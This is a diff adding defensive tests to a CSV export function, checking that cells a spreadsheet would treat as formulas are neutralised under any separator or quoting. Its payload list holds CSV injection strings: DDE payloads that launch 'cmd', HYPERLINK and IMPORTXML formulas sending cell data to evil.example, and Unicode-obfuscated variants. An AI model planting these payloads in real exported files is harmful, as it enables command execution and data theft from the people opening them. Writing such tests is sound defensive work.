@@ -1,3 +1,4 @@
+import * as fc from 'fast-check'
 import { expect, test } from 'vitest'
 import { csvRow } from './csv.ts'
 
@@ -24,14 +25,71 @@ test.for(['=1+1', '+962 6 500', '-1', '@SUM(A1)', '\t1', '\r1', '\n1', '=HYPERLI
 
 test.for([
   ['x;=1+1', "x;'=1+1"],
-  ['\t=1', "'\t'=1"],
+  [";-2+3+cmd|' /C calc'!A0", ";'-2+3+cmd|' /C calc'!A0"],
+  ['x,+1', "x,'+1"],
+  ['x|@SUM(A1)', "x|'@SUM(A1)"],
+  ['x\t-1', "x\t'-1"],
   ['x\n@SUM(A1)', "x\n'@SUM(A1)"],
-  ['x;-cmd|1', "x;'-cmd|1"],
-  ['a list:\n- one\n- two; +962 6', 'a list:\n- one\n- two; +962 6'],
-] as const)('so is what would begin like one if semicolons parted cells: %j', ([typed, written]) => {
+  ['x\r\n=1', "x\r\n'=1"],
+  ['\t=1', "'\t'=1"],
+  ['x; \u00A0=1', "x;' \u00A0=1"],
+  ['x;;=1;=2', "x;;'=1;'=2"],
+  ['x;"=1;"', `x;'""=1;""`],
+  ['x;＝1', "x;'＝1"],
+  ['- one\n- two; +962 6', "'- one\n'- two;' +962 6"],
+] as const)('so is what begins like one after a separator, whichever a program goes by: %j', ([typed, written]) => {
   expect(csvRow([typed])).toBe(`"${written}"\r\n`)
 })
 
+test.for(['＝1+1', '＋1', '－1', '＠SUM(A1)', ' =1', '\u00A0=1', '\u200B=1', '\uFEFF=1', '\u000B=1', '"=1', ' " =1'])(
+  'so is what a spreadsheet reads as a formula once it has trimmed or narrowed it: %j',
+  (formula) => {
+    expect(csvRow([formula])).toBe(`"'${formula.replaceAll('"', '""')}"\r\n`)
+  },
+)
+
 test('a sign further in changes nothing', () => {
-  expect(csvRow(['a=1', 'T+1', "'=1"])).toBe('"a=1","T+1","\'=1"\r\n')
+  for (const text of ['a=1', 'T+1', "'=1", 'Amman - Aqaba', '$10M - $50M', 'rana@dalil.example, sami@dalil.example'])
+    expect(csvRow([text])).toBe(`"${text}"\r\n`)
+})
+
+const PAYLOADS = [
+  '=1+1',
+  "=cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  "+cmd|' /C calc'!A0",
+  ";-2+3+cmd|' /C calc'!A0",
+  '"=1+1',
+  'x","=1+1","',
+  'x";"=1+1";"',
+  'x;"=1+1;"',
+  "%0A-3+3+cmd|' /C calc'!D2\n-3+3+cmd|' /C calc'!D2",
+  '=HYPERLINK("https://evil.example?x="&A1,"Open")',
+  '=IMPORTXML(CONCAT("https://evil.example?v=",A1),"//a")',
+  ' \t=1+1',
+  'x,\u00A0＝1+1',
+  'x|\u200B－1',
+]
+const ANY_TEXT = fc.oneof(
+  fc.constantFrom(...PAYLOADS),
+  fc.string({ unit: fc.constantFrom(...'=+-@＝＠,;|\t\n\r" \'\u00A0\u200Ba1') }),
+)
+
+/** The cells that a program would see that knows of no quoted cell, without the blanks and quotation marks around them. */
+const cellsBy = (separator: string, file: string) =>
+  file.split(/[\r\n]+/).flatMap((line) => line.split(separator).map((cell) => cell.replace(/^[\s"\p{Cc}\p{Cf}]+/u, '')))
+
+test('no cell begins like a formula, whichever separator a program goes by, and whether it knows of quotes or not', () => {
+  fc.assert(
+    fc.property(fc.array(ANY_TEXT, { minLength: 1 }), (texts) => {
+      const file = csvRow(texts)
+      for (const separator of [',', ';', '\t', '|'])
+        for (const cell of cellsBy(separator, file)) expect(cell).not.toMatch(/^[=+\-@＝＋－＠]/)
+      const cells = [...file.matchAll(/"((?:[^"]|"")*)"(?:,|\r\n)/gy)].map(([, cell = '']) =>
+        cell.replaceAll('""', '"'),
+      )
+      expect(cells.map((cell) => cell.replaceAll("'", ''))).toEqual(texts.map((text) => text.replaceAll("'", '')))
+    }),
+    { examples: PAYLOADS.map((payload): [string[]] => [[payload, `x${payload}`]]) },
+  )
 })
